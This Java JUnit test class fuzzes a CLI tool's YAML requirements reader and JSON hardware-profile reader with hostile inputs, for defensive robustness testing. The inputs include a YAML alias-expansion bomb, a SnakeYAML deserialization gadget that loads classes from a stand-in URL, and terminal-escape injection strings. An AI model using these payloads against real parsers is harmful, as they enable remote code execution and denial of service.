package dev.headroom.cli.check;

import dev.headroom.catalog.files.FuzzStats;

import dev.headroom.advisor.check.InvalidInputException;
import dev.headroom.advisor.profile.SavedProfileReader;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 16's hostile inputs for {@code check}'s readers, kept as tests: special files for the requirements
 * reader, and at least 300 generated hostile requirements files and hardware profiles each (through the
 * readers' public APIs), scored by {@link FuzzStats}: no crash, no hang, one-line refusals, peak heap printed.
 */
class HostileInputsTest {
    @TempDir
    Path dir;

    static final RequirementsReader READER = new RequirementsReader(CatalogModelResolver.bundled());

    static boolean documented(Throwable t) {
        if (t instanceof InvalidInputException e) {
            return e.problems().stream().noneMatch(p -> p.contains("\n"));
        }
        return false;
    }

    @Test
    @EnabledOnOs(OS.LINUX)
    @Timeout(30)
    void aRequirementsFileThatIsNotARegularFileIsRefusedAtOnce() throws Exception {
        Path fifo = dir.resolve("capacity.yaml");
        assertThat(new ProcessBuilder("mkfifo", fifo.toString()).start().waitFor()).isZero();
        for (Path p : List.of(fifo, Path.of("/dev/zero"), Path.of("/dev/urandom"), Files.createDirectories(dir.resolve("d.yaml")))) {
            long start = System.nanoTime();
            assertThatThrownBy(() -> READER.read(p)).isInstanceOf(InvalidInputException.class)
                    .hasMessageContaining(p + ": ").hasMessageContaining("not a");
            assertThat((System.nanoTime() - start) / 1e9).as("refused at once: %s", p).isLessThan(2);
        }
        assertThatThrownBy(() -> READER.read(fifo)).hasMessageContaining("is a FIFO (named pipe), not a regular file");
    }

    @Test
    void nestingDeeperThanTheDocumentedLimitIsRefused() {
        String deep = "requirements:\n  - name: a\n    model: gpt-2\n    x: " + "[".repeat(40) + "]".repeat(40) + "\n";
        assertThatThrownBy(() -> READER.read("deep.yaml", new StringReader(deep), dir)).isInstanceOf(InvalidInputException.class)
                .hasMessageContaining("deep.yaml");
    }

    static List<String> hostileRequirements(long seed, int count) throws IOException {
        String valid = Files.readString(CheckFixtures.EXAMPLE);
        List<String> out = new ArrayList<>();
        out.add("a: &a [" + "x,".repeat(50) + "x]\nb: &b [" + "*a,".repeat(50) + "*a]\nrequirements: [" + "*b,".repeat(50) + "*b]\n");
        out.add("requirements: " + "[".repeat(1000) + "]".repeat(1000));
        out.add("requirements:\n  - name: " + "n".repeat(900_000) + "\n    model: gpt-2\n");
        out.add("requirements:\n  - name: a\n    model: " + "m".repeat(1_000_000) + "\n");
        out.add("requirements:\n  - name: a\n    model: gpt-2\n    context: 99999999999999999999999\n    concurrency: -1\n");
        out.add("requirements:\n  - name: a\n    model: gpt-2\n    context: 1.5M\n    minHeadroom: 1e400GiB\n");
        out.add("requirements:\n  - name: \"\\e[31m\\u202e\"\n    model: \"\\e]0;x\\a\"\n");
        out.add("requirements: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");
        out.add("requirements:\n" + "  - {name: a, model: gpt-2}\n".repeat(20_000));
        out.add("\u0000\u00ff\ufeff");
        Random r = new Random(seed);
        String[] tokens = {"[", "]", "{", "}", ":", "- ", "&a ", "*a", "!!binary ", "\n", "  ", "'", "\"", "#", "1e999",
                "-1", "99999999999999999999", "null", "~", "\u001b[31m", "\t", "---\n", "? ", "|\n", "8k", "0", "gpu:99", "Q9"};
        while (out.size() < count) {
            StringBuilder b = new StringBuilder(valid);
            int edits = 1 + r.nextInt(6);
            for (int e = 0; e < edits; e++) {
                int p = r.nextInt(b.length() + 1);
                switch (r.nextInt(4)) {
                    case 0 -> b.insert(p, tokens[r.nextInt(tokens.length)]);
                    case 1 -> b.delete(p, Math.min(b.length(), p + 1 + r.nextInt(20)));
                    case 2 -> b.insert(p, tokens[r.nextInt(tokens.length)].repeat(1 + r.nextInt(2000)));
                    default -> {
                        if (p < b.length()) {
                            b.setCharAt(p, (char) r.nextInt(128));
                        }
                    }
                }
            }
            out.add(b.toString());
        }
        return out;
    }

    @Test
    @Timeout(90)
    void hostileRequirementsFilesAreParsedOrRefusedWithOneLinePerProblem() throws IOException {
        FuzzStats stats = new FuzzStats("requirements YAML", HostileInputsTest::documented, HostileInputsTest::problemLines, RequirementsReader.MAX_PROBLEMS + 1);
        List<String> docs = hostileRequirements(0x7e9L, 320);
        for (int i = 0; i < docs.size(); i++) {
            Path f = Files.writeString(dir.resolve("r" + i + ".yaml"), docs.get(i));
            stats.accept("requirements #" + i, () -> READER.read(f));
            Files.delete(f);
        }
        System.out.println(stats.summary());
        assertThat(stats.total()).isGreaterThanOrEqualTo(300);
        assertThat(stats.parsed()).as("some mutations keep the file valid").isPositive();
    }

    @Test
    @Timeout(90)
    void hostileHardwareProfilesAreParsedOrRefusedWithOneLinePerProblem() throws IOException {
        String valid = Files.readString(CheckFixtures.RTX4090);
        FuzzStats stats = new FuzzStats("hardware profile JSON", HostileInputsTest::documented, HostileInputsTest::problemLines, RequirementsReader.MAX_PROBLEMS + 1);
        Random r = new Random(0x9f0L);
        String[] values = {"-1", "0", "1e400", "-1e400", "9223372036854775808", "NaN", "null", "\"\u001b[2J\"", "[]", "{}",
                "\"" + "x".repeat(100_000) + "\"", "[" + "[".repeat(2000) + "]".repeat(2000) + "]", "true", "\"8 EiB\"",
                "9223372036854775807", "1.5", "\"\\u0000\""};
        for (int i = 0; i < 320; i++) {
            String doc;
            if (i % 4 == 0) {
                StringBuilder b = new StringBuilder(valid);
                for (int e = 0; e < 1 + r.nextInt(4); e++) {
                    int p = r.nextInt(b.length());
                    b.setCharAt(p, (char) (32 + r.nextInt(95)));
                }
                doc = b.toString();
            } else {
                // Replace one number, string or literal value with a hostile one.
                java.util.regex.Matcher m = java.util.regex.Pattern.compile(":\\s*(-?[0-9][0-9.eE+-]*|\"[^\"]*\"|true|false|null)").matcher(valid);
                List<int[]> spans = new ArrayList<>();
                while (m.find()) {
                    spans.add(new int[] {m.start(1), m.end(1)});
                }
                int[] s = spans.get(r.nextInt(spans.size()));
                doc = valid.substring(0, s[0]) + values[r.nextInt(values.length)] + valid.substring(s[1]);
            }
            Path f = Files.writeString(dir.resolve("p" + i + ".json"), doc, StandardCharsets.UTF_8);
            stats.accept("profile #" + i, () -> SavedProfileReader.read(f));
            Files.delete(f);
        }
        System.out.println(stats.summary());
        assertThat(stats.total()).isGreaterThanOrEqualTo(300);
        assertThat(stats.parsed()).isPositive();
    }

    /** The one-line problems a refusal carries: every bad field of an InvalidInputException, else its message. */
    static java.util.List<String> problemLines(Throwable t) {
        return t instanceof InvalidInputException e ? e.problems() : java.util.List.of(String.valueOf(t.getMessage()));
    }
}
